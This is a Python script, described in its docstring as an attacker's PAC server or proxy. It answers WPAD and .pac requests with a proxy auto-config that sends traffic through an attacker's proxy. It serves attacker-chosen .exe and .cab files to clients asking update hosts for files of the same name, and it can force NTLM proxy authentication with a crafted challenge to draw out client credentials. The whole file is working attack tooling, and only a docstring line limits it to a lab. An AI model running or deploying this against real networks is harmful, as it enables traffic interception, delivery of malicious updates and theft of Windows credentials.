#!/usr/bin/python3
"""An attacker's PAC server or proxy that answers for update hosts. update_proxy.py PORT FOLDER [PROXY] [--ntlm]

  FOLDER   requests whose path ends in a file of it get that file, whatever host was asked; others an empty page
  PROXY    host:port that a request for wpad.dat or any *.pac gets as the one proxy
  --ntlm   wants an NTLM proof (407) before it answers as a proxy
Runs in a lab namespace only."""
import base64, http.server, os, socketserver, sys

ntlm = "--ntlm" in sys.argv
arguments = [argument for argument in sys.argv[1:] if argument != "--ntlm"]
port, folder, proxy = int(arguments[0]), arguments[1], arguments[2] if len(arguments) > 2 else None
KINDS = {".cab": "application/vnd.ms-cab-compressed", ".exe": "application/octet-stream"}


def challenge():
    target = "LAB".encode("utf-16le")
    message = b"NTLMSSP\0" + (2).to_bytes(4, "little") + len(target).to_bytes(2, "little") * 2 + (56).to_bytes(4, "little")
    message += 0xA2890205.to_bytes(4, "little") + b"\x11\x22\x33\x44\x55\x66\x77\x88" + bytes(16) + b"\x0a\0\x7c\x4f\0\0\0\x0f" + target
    return base64.b64encode(message).decode()


class Handler(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def log_message(self, *_):
        pass

    def reply(self, status, kind, body, **more):
        self.send_response_only(status)
        for name, value in more.items():
            self.send_header(name.replace("_", "-"), value)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", len(body))
        self.end_headers()
        if self.command != "HEAD":
            self.wfile.write(body)

    def do_GET(self):
        path = self.path.split("?")[0]
        proof = self.headers.get("Proxy-Authorization", "")
        file = os.path.join(folder, os.path.basename(path))
        if proxy and path.endswith((".dat", ".pac")):
            body = f"function FindProxyForURL(url, host) {{\n  if (dnsDomainIs(host, \".corp.example\")) return \"DIRECT\";\n  return \"PROXY {proxy}\";\n}}\n".encode()
            self.reply(200, "application/x-ns-proxy-autoconfig", body)
        elif ntlm and "://" in path and not proof.startswith("NTLM TlRMTVNTUAAD"):
            self.reply(407, "text/html", b"", Proxy_Authenticate="NTLM" + (" " + challenge() if proof else ""))
        elif os.path.basename(path) and os.path.isfile(file):
            with open(file, "rb") as opened:
                self.reply(200, KINDS.get(os.path.splitext(file)[1], "text/plain"), opened.read())
        else:
            self.reply(200, "text/html", b"<html></html>")

    do_HEAD = do_GET


class Server(socketserver.ThreadingTCPServer):
    allow_reuse_address = daemon_threads = True


Server(("", port), Handler).serve_forever()
